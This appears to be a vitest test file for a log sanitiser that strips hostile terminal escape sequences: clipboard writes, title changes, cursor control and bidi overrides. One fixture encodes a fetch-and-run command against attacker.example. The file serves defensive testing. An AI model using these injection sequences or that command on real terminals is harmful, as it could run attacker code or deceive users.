/**
 * The sanitiser as the log path uses it (toLogLine), against a corpus of escape sequences:
 * what the lab's hostile container prints and more. Nothing that moves the cursor, clears,
 * retitles, writes the clipboard, links, or switches character sets may survive; validated SGR
 * may, in `text` only, never in `plain`.
 */
import { describe, expect, it } from 'vitest';
import { jsonOf, toLogLine } from '../../src/logs/log-line.js';
import type { RawLine } from '../../src/logs/line-assembler.js';

const ESC = '\u001b';
const BEL = '\u0007';
const TS = '2026-11-22T18:32:57.984103314Z';

const raw = (text: string, extra: Partial<RawLine> = {}): RawLine => ({ stream: 'stdout', ts: TS, text, bytes: Buffer.byteLength(text), cut: false, ...extra });

const CORPUS: [string, string][] = [
  ['OSC 52 clipboard write (BEL)', `${ESC}]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNo${BEL}`],
  ['OSC 52 clipboard write (ST)', `${ESC}]52;p;AAAA${ESC}\\`],
  ['OSC 0 window title', `${ESC}]0;you have been pwned${BEL}`],
  ['OSC 2 window title', `${ESC}]2;title${ESC}\\`],
  ['OSC 8 hyperlink', `${ESC}]8;;https://attacker.example/${ESC}\\click me${ESC}]8;;${ESC}\\`],
  ['OSC 7 cwd', `${ESC}]7;file:///etc${BEL}`],
  ['OSC 1337 iTerm file', `${ESC}]1337;File=name=eA==;inline=1:AAAA${BEL}`],
  ['cursor up + erase line', `${ESC}[3A${ESC}[2K fake line ${ESC}[3B`],
  ['cursor home + position', `${ESC}[H${ESC}[10;10Hmoved`],
  ['clear screen + scrollback', `${ESC}[2J${ESC}[3J`],
  ['full reset (RIS)', `${ESC}c`],
  ['save/restore cursor', `${ESC}7${ESC}8${ESC}[s${ESC}[u`],
  ['alternate screen', `${ESC}[?1049h${ESC}[?1049l`],
  ['hide cursor', `${ESC}[?25l`],
  ['mouse reporting on', `${ESC}[?1000h${ESC}[?1006h`],
  ['bracketed paste off', `${ESC}[?2004l`],
  ['scroll region', `${ESC}[1;5r`],
  ['insert/delete lines', `${ESC}[5L${ESC}[5M`],
  ['character set switch', `${ESC}(0${ESC})0${ESC}(B`],
  ['DCS (sixel / DECRQSS)', `${ESC}P$qm${ESC}\\`],
  ['APC', `${ESC}_payload${ESC}\\`],
  ['PM', `${ESC}^payload${ESC}\\`],
  ['SOS', `${ESC}Xpayload${ESC}\\`],
  ['8-bit CSI', '\u009b2J'],
  ['8-bit OSC', '\u009d0;title\u0007'],
  ['8-bit DCS', '\u0090q\u009c'],
  ['device attributes query', `${ESC}[c${ESC}[>c${ESC}[6n`],
  ['title report (CVE-2003-0063)', `${ESC}[21t${ESC}]l${ESC}\\`],
  ['bell, backspace, CR, NUL, DEL', `${BEL}abc\b\b\bxyz\rover\u0000\u007f`],
  ['bidi override (Trojan Source)', 'admin\u202Etxt.exe\u2066\u2069'],
  ['SGR blink and conceal', `${ESC}[5m${ESC}[8mhidden${ESC}[0m`],
  ['truncated OSC at line end', `${ESC}]52;c;AAAA`],
  ['truncated CSI at line end', `${ESC}[31`],
  ['lone ESC at line end', ESC],
  ['vertical tab, form feed', '\u000b\u000c'],
];

// Anything that can drive a terminal: C0 except tab/newline (gone after sanitising), ESC, C1.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('log lines are sanitised where they enter the model', () => {
  for (const [name, seq] of CORPUS) {
    it(`removes ${name}`, () => {
      const line = toLogLine(raw(`before ${seq} after`), 0);
      expect(line.plain).not.toMatch(CONTROL);
      expect(line.plain.startsWith('before ')).toBe(true);
      // SGR that is not a plain colour (blink, conceal) does not survive in text either.
      expect(line.text).not.toMatch(/\u001b(?!\[[0-9;]*m)/);
      expect(line.text).not.toMatch(/\u001b\[[0-9;]*(?:5|6|8)m/);
    });
  }

  it('keeps validated SGR colours in text and none in plain', () => {
    const line = toLogLine(raw(`${ESC}[31mred${ESC}[0m ${ESC}[1;38;5;208mbold orange${ESC}[0m`), 0);
    expect(line.text).toBe(`${ESC}[31mred${ESC}[0m ${ESC}[1;38;5;208mbold orange${ESC}[0m`);
    expect(line.plain).toBe('red bold orange');
  });

  it('keeps the text of ordinary lines as it is (same string for text and plain)', () => {
    const line = toLogLine(raw('GET /api/products 200 12ms — café 日本語 ✅'), 0);
    expect(line.text).toBe('GET /api/products 200 12ms — café 日本語 ✅');
    expect(line.plain).toBe(line.text);
  });

  it('sanitises every JSON field, keys included, after parsing', () => {
    const text = JSON.stringify({ level: 'error', msg: `pwn${ESC}]52;c;AAAA${BEL}ed`, [`k${ESC}[2Jey`]: `v${ESC}[31mal` });
    const line = toLogLine(raw(text), 0);
    const json = jsonOf(line);
    expect(json).not.toBeNull();
    for (const [k, v] of json!.fields) {
      expect(k).not.toMatch(CONTROL);
      expect(v).not.toMatch(CONTROL);
    }
    expect(json!.fields.map((f) => f[0])).toEqual(['level', 'msg', 'key']);
    expect(line.level).toBe('error');
  });

  it('marks a cut line visibly, after sanitising, and a cut escape sequence leaves nothing behind', () => {
    const text = 'x'.repeat(100) + `${ESC}]52;c;` + 'A'.repeat(50);
    const line = toLogLine(raw(text, { cut: true, bytes: 200_000 }), 0);
    expect(line.plain).toMatch(/^x{100} ✂ \[line cut: 195\.3 KiB, first 157 B shown\]$/);
    expect(line.plain).not.toMatch(CONTROL);
  });
});
